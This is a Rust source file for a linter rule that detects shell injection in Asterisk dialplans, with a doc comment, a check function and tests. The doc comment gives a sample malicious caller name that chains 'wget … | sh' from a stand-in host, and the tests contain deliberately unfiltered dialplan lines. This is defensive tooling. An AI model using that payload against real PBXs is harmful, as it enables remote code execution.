//! A caller's text in a command line.

use super::{tell_origin, weigh_doubt};
use crate::{
    diagnostic::Severity,
    lint::{Check, Findings, Group, Origin, Subject, rule::rule, taint::Risk},
};

rule! {
    /// # What it finds
    /// A text that the caller controls and that goes into a command line: `System`, `TrySystem`, `SHELL()`,
    /// the command of `MixMonitor`. It is an error where the text gets there for sure, a warning where that
    /// depends on which way a call took.
    ///
    /// # Why it hurts
    /// Asterisk hands the line to `/bin/sh`. Whoever calls with the name
    /// ```text
    /// x; wget -qO- evil.example | sh
    /// ```
    /// runs his program on the PBX, with the rights of Asterisk. Quotes do not help: he closes them, and
    /// `$(...)` works between double quotes. `${EXTEN}` is just as free: a pattern that ends with `.` or `!`
    /// takes anything that the user part of a SIP address can hold.
    ///
    /// # Example
    /// ```text
    /// exten => 100,1,System(echo "${CALLERID(name)}" >> /var/log/callers)
    /// ```
    /// Better, let through only what is harmless:
    /// ```text
    /// exten => 100,1,System(echo "${FILTER(a-zA-Z0-9,${CALLERID(name)})}" >> /var/log/callers)
    /// ```
    /// or write with a function that asks no shell: `Log`, `CDR()`, `FILE()`.
    pub(super) static RULE = {
        name: "shell-injection",
        code: "S001",
        group: Group::Security,
        severity: Severity::Error,
        origin: Origin::New,
        fix: None,
        check: Check::Dialplan(check),
    }
}

fn check(subject: &Subject<'_>, findings: &mut Findings<'_>) {
    for hit in subject.taints().hits(Risk::Shell) {
        let message = format!("a shell runs `{}`: callers can put commands into it", hit.written);
        let finding = findings.report(hit.place, message);
        finding.help("let only harmless characters through: ${FILTER(a-zA-Z0-9,...)}");
        weigh_doubt(hit, finding);
        tell_origin(hit, finding);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lint::testing::check;

    #[test]
    fn a_command_line_is_no_place_for_a_caller() {
        check(
            &RULE,
            r#"
            [a]
            exten => _X.,1,System(echo ${EXTEN})
                                       ^^^^^^^^ a shell runs `${EXTEN}`: callers can put commands into it
             same => n,TrySystem(echo "${CALLERID(name)}")
                                       ^^^^^^^^^^^^^^^^^ a shell runs `${CALLERID(name)}`: callers can put commands into it
             same => n,Set(X=${SHELL(echo ${CALLERID(num)})})
                                          ^^^^^^^^^^^^^^^^ a shell runs `${CALLERID(num)}`: callers can put commands into it
             same => n,MixMonitor(a.wav,b,mail ${SIP_HEADER(To)})
                                               ^^^^^^^^^^^^^^^^^ a shell runs `${SIP_HEADER(To)}`: callers can put commands into it
             same => n,ExecIf($[1]?System(echo ${EXTEN}))
                                               ^^^^^^^^ a shell runs `${EXTEN}`: callers can put commands into it
            "#,
        );
    }

    #[test]
    fn digits_and_filtered_texts_do_no_harm() {
        check(
            &RULE,
            "
            [a]
            exten => _XXXX,1,System(echo ${EXTEN} ${UNIQUEID})
            exten => _X.,1,System(echo ${FILTER(0-9,${EXTEN})})
             same => n,System(echo ${DB(a/b)} ${LEN(${EXTEN})})
             same => n,Read(code,please)
             same => n,System(echo ${code})
             same => n,NoOp(${EXTEN})
            ",
        );
    }
}
